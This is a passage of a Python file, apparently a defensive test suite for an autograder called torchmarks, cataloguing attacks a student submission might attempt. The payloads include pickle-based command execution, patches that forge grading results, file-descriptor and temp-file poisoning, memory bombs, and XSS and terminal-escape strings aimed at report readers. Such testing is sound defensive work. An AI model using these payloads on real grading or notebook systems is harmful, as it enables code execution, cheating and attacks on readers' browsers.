        _FORGE + "import pickle, os\nclass Run:\n    def __reduce__(self): return os.system, ('touch {course}/owned',)\n"
        "forge(lambda kind, payload: pickle.dumps(Run()))",
    )),
    Attack("the capture patched to say yes", "forging", "facts of a call that were never taken", own=(
        "import torchmarks.checks.capture as capture, torchmarks.checks.facts as facts, torchmarks.isolation.inside.handlers as handlers\n"
        "def watch(fn, args, kwargs, parameters, backward):\n"
        "    names = capture.bind(parameters, args, kwargs)\n    taken = {name: capture.take(value) for name, value in names.items()}\n"
        "    return facts.Observation(taken, taken, facts.Plain('NoneType', None))\n"
        "capture.watch = handlers.watch = watch",
    ), answers=_all("return None")),
    Attack("an error message of megabytes", "forging", "notebook and pages of megabytes", own=(
        _FORGE + "said = ['ValueError', ['ValueError', 'Exception'], 'm' * 3_000_000, [], True]\n"
        "forge(lambda kind, payload: dict(fine, raised=said) if kind == 'observe' else {'raised': said[:3], 'printed': ''} if kind == 'operate' else None)",
    )),
    Attack("an argument's name left out", "forging", "an AuthorError, which costs no points", own=(
        _FORGE + "forge(lambda kind, payload: dict(fine, arguments={'x': ['opaque', 'x', '']}) if kind == 'observe' else None)",
    )),
)

_LIE = """import gc, msgspec
student = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Student")
honest = student._handle
def lie(change):
    def handle(kind, ns, payload, reply):
        def changed(data):
            answer = msgspec.msgpack.decode(data)
            if kind == "observe":
                answer["raised"] = None
                change(answer)
            reply(msgspec.msgpack.encode(answer))
        honest(kind, ns, payload, changed)
    student._handle = handle
"""
FORGING = (
    *FORGING,
    Attack("an output of a million lists", "forging", "the grader's memory", own=(
        "import gc, struct\nstudent = next(thing for thing in gc.get_objects() if type(thing).__name__ == 'Student')\n"
        "body = (b'\\x86\\xa4type\\xa7display\\xa2id' + bytes([student._shell.request]) + b'\\xa4data\\x81\\xa1x\\xdd' + struct.pack('>I', 3_900_000)\n"
        "        + b'\\x90' * 3_900_000 + b'\\xa8metadata\\x80\\xaadisplay_id\\xc0\\xa6update\\xc2')\n"
        "student._sock.sendall(struct.pack('>Q', len(body)) + body)",
    )),
    Attack("arguments handed back as the result", "forging", "a result that nobody computed", own=(
        _LIE + "lie(lambda seen: seen.update(result=next(iter(seen['arguments'].values()))))",)),
    Attack("arguments that became something else", "forging", "an AuthorError, which costs no points", own=(
        _LIE + "lie(lambda seen: seen.update(result=['plain', 'NoneType', None], kept_memory={},\n"
        "         after={name: ['plain', 'torch.Tensor', 0] for name in seen['after']}))",)),
)

POISONING = (
    Attack("the shared page cache", "poisoning", "the next submission", own=(
        "import torch, sys, builtins, mmap, ctypes\ntorch.Tensor.sum = lambda self: 0\nbuiltins.sum = lambda *a: 0\n"
        "import torchmarks.checks.capture\ntorchmarks.checks.capture.take = None",
    )),
    Attack("the server's descriptors", "poisoning", "the line between server and grader", own=(
        "import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'\\x81\\xa2op\\xa3end')\n    except OSError: pass\n"
        "for fd in range(3, 256):\n    try: os.close(fd)\n    except OSError: pass",
    )),
    Attack("shared memory and temporary files", "poisoning", "files that the next submission meets", own=(
        "for folder in ('/dev/shm', '/tmp', '/var/tmp', '.'):\n    try: open(folder + '/left-behind', 'w').write('x')\n    except OSError: pass",
    )),
    Attack("limits and niceness", "poisoning", "the server's limits", own=(
        "import resource, os\ntry: os.nice(19)\nexcept OSError: pass\nfor name in ('RLIMIT_AS', 'RLIMIT_NPROC', 'RLIMIT_NOFILE'):\n"
        "    try: resource.setrlimit(getattr(resource, name), (1 << 40, 1 << 40))\n    except (ValueError, OSError): pass",
    )),
)

_SCRIPT = "<script>fetch('/formgrader/api')</script><img src=x onerror=alert(1)>"
SHOWING = (
    Attack("a script displayed", "showing", "the browser of who reads the page", own=(
        f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({_SCRIPT!r}), Javascript('alert(1)'))\n"
        f"display({{'image/svg+xml': '<svg onload=alert(1)>', 'text/markdown': {_SCRIPT!r}, 'text/latex': {_SCRIPT!r}}}, raw=True)\n"
        f"display({{'image/png': '\"><script>alert(1)</script>', 'text/plain': 'x'}}, metadata={{'image/png': {{'width': '1 onload=alert(1)'}}}}, raw=True)",
    )),
    Attack("a script printed and raised", "showing", "the browser of who reads the page", own=(f"print({_SCRIPT!r})", f"raise ValueError({_SCRIPT!r})"),
           answers=_all(f"raise ValueError({_SCRIPT!r})")),
    Attack("a script as a returned text and a class name", "showing", "the report's table", answers={
        "total": f"def total(t): return {_SCRIPT!r}", "zero_": f"def zero_(t): return type({_SCRIPT!r}, (), {{}})()",
        "double": f"double = type({_SCRIPT!r}, (), {{'__call__': lambda self, x: {_SCRIPT!r}}})()"}),
    Attack("terminal escapes and turned text", "showing", "the grader's terminal, the reader's eyes", answers=_all(
        "raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\u202e passed \\u2066 100%')")),
    Attack("outputs that look like verdicts", "showing", "pages and statistics", own=(
        "from IPython.display import display\ndisplay({'text/plain': '✓ 9 calls as expected'}, metadata={'torchmarks': {'verdict': 'passed'}}, raw=True)",
    )),
    *(
        Attack(f"displayed: {name}", "showing", "the time of who cleans it", own=(f"from IPython.display import HTML, display\ndisplay(HTML({text}))",))
        for name, text in {
            "divs without end": "'<div>' * 20_000", "backslashes": "chr(92) * 20_000",
            "nested CSS": "'<p style=\"width:' + 'a(' * 3_000 + '\">'", "open comments": "'<!--' * 20_000",
            "bold text of many kinds": "''.join(f'<b title={n}>' for n in range(5_000)) + '<p>' * 5_000",
            "a number without end": "'&#' + '9' * 50_000 + ';'",
        }.items()
    ),
)

ATTACKS = (*SCORING, *LYING, *READING, *CARRYING, *REACHING, *BREAKING, *FORGING, *POISONING, *SHOWING)
